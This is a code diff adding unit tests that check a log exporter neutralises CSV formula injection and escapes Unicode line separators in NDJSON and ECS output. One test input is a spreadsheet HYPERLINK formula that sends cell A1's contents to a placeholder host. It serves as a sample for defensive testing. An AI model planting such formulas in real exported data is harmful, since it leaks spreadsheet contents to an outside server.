@@ -79,6 +79,38 @@ describe('exporters', () => {
     assert.equal(csvField(0), '0');
   });
 
+  it('neutralises CSV cells a spreadsheet would read as a formula (OWASP CSV Injection), numbers excepted', async () => {
+    assert.equal(csvField('=1+2'), `"'=1+2"`);
+    assert.equal(csvField('+1'), `"'+1"`);
+    assert.equal(csvField('-1'), `"'-1"`);
+    assert.equal(csvField('@SUM(A1)'), `"'@SUM(A1)"`);
+    assert.equal(csvField('\tx'), `"'\tx"`);
+    assert.equal(csvField('\rx'), `"'\rx"`);
+    assert.equal(csvField('=1+2";=1+2'), `"'=1+2"";=1+2"`);
+    assert.equal(csvField('a=b'), 'a=b');
+    assert.equal(csvField(-1), '-1');
+    const rule = '=HYPERLINK("http://example.invalid/?"&A1,"x")';
+    const flows = table(rule, ['1542110377,10.5.16.4,203.0.113.118,59831,443,T,O,A,B,,,,']);
+    const [header, row] = parseCsv((await collect((write) => exportRows(flows, [0], 'csv', write))).text);
+    assert.equal(row[header.indexOf('rule')], `'${rule}`);
+    const ecs = JSON.parse((await collect((write) => exportRows(flows, [0], 'ecs', write))).text) as { rule: { name: string } };
+    assert.equal(ecs.rule.name, rule, 'JSON exports keep the value as logged');
+  });
+
+  it('escapes U+2028 and U+2029 in NDJSON and ECS lines, which some readers take for line ends', async () => {
+    const rule = 'UserRule_a\u2028b\u2029c';
+    const flows = table(rule, ['1542110377,10.5.16.4,203.0.113.118,59831,443,T,O,A,B,,,,']);
+    for (const format of ['ndjson', 'ecs'] as const) {
+      const { text } = await collect((write) => exportRows(flows, [0], format, write));
+      assert.ok(!/[\u2028\u2029]/.test(text), format);
+      assert.ok(text.includes('a\\u2028b\\u2029c'), format);
+      assert.equal(text.split('\n').length, 2, format);
+      const parsed = JSON.parse(text) as { rule: string | { name: string } };
+      assert.equal(typeof parsed.rule === 'string' ? parsed.rule : parsed.rule.name, rule, format);
+    }
+    assert.equal(rowToNdjson(flows.rowAt(0)), (await collect((write) => exportRows(flows, [0], 'ndjson', write))).text);
+  });
+
   it('writes CSV with a header, ISO-8601 UTC times, empty cells for absent counters and a rule with a comma and quotes', async () => {
     const rule = 'UserRule_allow, "quoted" dns';
     const flows = table(rule, ['1542110377,10.5.16.4,203.0.113.118,59831,443,T,O,A,B,,,,', '1542110379,10.5.16.4,203.0.113.117,59932,53,U,O,A,E,1,0,1,66']);
